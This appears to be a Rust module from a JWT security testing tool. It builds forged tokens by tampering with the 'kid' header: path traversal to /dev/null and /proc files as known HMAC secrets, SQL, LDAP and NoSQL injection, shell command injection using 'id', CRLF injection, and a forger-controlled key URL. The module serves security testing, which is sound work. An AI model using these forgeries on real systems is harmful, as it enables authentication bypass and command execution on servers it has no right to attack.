//! The name of the key is hostile.

use serde_json::{Value, json};

use crate::attack::{Family, Forged, Forgery, draft::Draft};

const LOOSE: &str =
    "A key is used that the token does not name: with several keys, the wrong one may decide.";
const PATH: &str = "`kid` ends in a file name: a file whose bytes are known serves as the secret.";
const QUERY: &str = "`kid` ends in a query: the forger chooses the key that it finds.";
const COMMAND: &str = "`kid` ends in a command: the forger runs what he likes on the server.";
const PORTSWIGGER: &str = "RFC 8725 §3.10; jwt_tool, PortSwigger, jwt-hack";

#[rustfmt::skip] // a table: one line a forgery
pub(in crate::attack) fn forgeries() -> Vec<Forgery> {
    const F: Family = Family::KeyId;
    vec![
        Forgery::token(F, "kid-unknown", "Unknown kid", "`kid` names no key of the issuer.", "RFC 7515 §4.1.4; jwt-hack", LOOSE, |d| kid(d, json!("no-such-key"))),
        Forgery::token(F, "kid-blank", "Blank kid", "`kid` becomes the empty string.", "RFC 7515 §4.1.4; jwt_tool", LOOSE, |d| kid(d, json!(""))),
        Forgery::token(F, "kid-null", "kid null", "`kid` becomes null.", "RFC 7515 §4.1.4; jwt-hack", LOOSE, |d| kid(d, Value::Null)),
        Forgery::token(F, "kid-object", "kid an object", "`kid` becomes an object with a query operator.", "RFC 7515 §4.1.4; jwt-hack", "`kid` reaches a document database as an operator: any key will do.", |d| kid(d, json!({ "$ne": null }))),
        Forgery::token(F, "kid-array", "kid a list", "`kid` becomes a list with its value.", "RFC 7515 §4.1.4; own", LOOSE, |d| { let was = d.members()?.get("kid").cloned().unwrap_or(Value::Null); kid(d, json!([was])) }),
        Forgery::token(F, "kid-wildcard", "kid `*`", "`kid` becomes `*`.", "RFC 7515 §4.1.4; jwt-hack", LOOSE, |d| kid(d, json!("*"))),
        Forgery::token(F, "kid-dev-null", "kid `/dev/null`", "`kid` leads to an empty file; `alg` is HS256 with the empty secret.", PORTSWIGGER, PATH, |d| injected(d, "/dev/null", b"")),
        Forgery::token(F, "kid-traversal-dev-null", "kid climbs to `/dev/null`", "`kid` climbs out of its folder to an empty file; `alg` is HS256 with the empty secret.", PORTSWIGGER, PATH, |d| injected(d, "../../../../../../../../dev/null", b"")),
        Forgery::token(F, "kid-traversal-nul", "kid climbs to `/dev/null`, secret NUL", "As before, with one zero byte as the secret: some libraries refuse an empty one.", PORTSWIGGER, PATH, |d| injected(d, "../../../../../../../../dev/null", b"\0")),
        Forgery::token(F, "kid-traversal-known-file", "kid climbs to a known file", "`kid` leads to a kernel setting whose content is `2` and a line break; that is the secret.", "RFC 8725 §3.10; jwt_tool", PATH, |d| injected(d, "../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n")),
        Forgery::token(F, "kid-traversal-encoded", "kid climbs, percent-encoded", "As climbing to `/dev/null`, with `%2f` for the slashes.", "RFC 8725 §3.10; own", PATH, |d| injected(d, "..%2f..%2f..%2f..%2f..%2fdev%2fnull", b"")),
        Forgery::token(F, "kid-sql", "kid with SQL", "`kid` makes a query give the word `forged`; that is the secret.", "RFC 8725 §3.10; jwt_tool, jwt-hack", QUERY, |d| injected(d, "x' UNION SELECT 'forged';-- ", b"forged")),
        Forgery::token(F, "kid-sql-or", "kid with SQL that is always true", "`kid` makes a query find every key.", "RFC 8725 §3.10; jwt-hack", QUERY, |d| kid(d, json!("x' OR '1'='1"))),
        Forgery::token(F, "kid-ldap", "kid with LDAP", "`kid` closes an LDAP filter and opens another.", "RFC 8725 §3.10; own", QUERY, |d| kid(d, json!("*)(objectClass=*"))),
        Forgery::token(F, "kid-command", "kid with a command", "`kid` ends a shell word and starts a harmless command.", "RFC 8725 §3.10; jwt_tool, jwt-hack", COMMAND, |d| kid(d, json!("key; id #"))),
        Forgery::token(F, "kid-command-substitution", "kid with a substitution", "`kid` holds a shell substitution of a harmless command.", "RFC 8725 §3.10; jwt-hack", COMMAND, |d| kid(d, json!("$(id)"))),
        Forgery::token(F, "kid-crlf", "kid with CR LF", "`kid` holds a line break and a header: it may end in a log or a request.", "RFC 8725 §3.10; jwt-hack", "`kid` reaches a log or an outgoing request as it is: lines can be forged there.", |d| kid(d, json!("key\r\nX-Forged: yes"))),
        Forgery::token(F, "kid-url", "kid a URL", "`kid` becomes a URL at the forger's.", "RFC 8725 §3.10; jwt_tool", "The server fetches keys from where the token says.", |d| kid(d, d.with.place("key").into())),
        Forgery::token(F, "kid-long", "kid of 10,000 characters", "`kid` becomes very long.", "RFC 8725 §3.10; own", "Names of keys have no bound.", |d| kid(d, Value::from("k".repeat(10_000)))),
    ]
}

/// Only `kid` is wrong: signed by the issuer where its key is at hand.
fn kid(d: &Draft<'_>, value: Value) -> Forged {
    d.header_sealed("/kid", Some(value))
}

/// `kid` leads to bytes that the forger knows, and these are the secret.
fn injected(d: &Draft<'_>, kid: &str, secret: &[u8]) -> Forged {
    let header = d.header_set("/alg", Some("HS256".into()))?;
    d.hmac_with(
        &crate::attack::draft::set(&header, "/kid", Some(kid.into()))?,
        secret,
    )
}
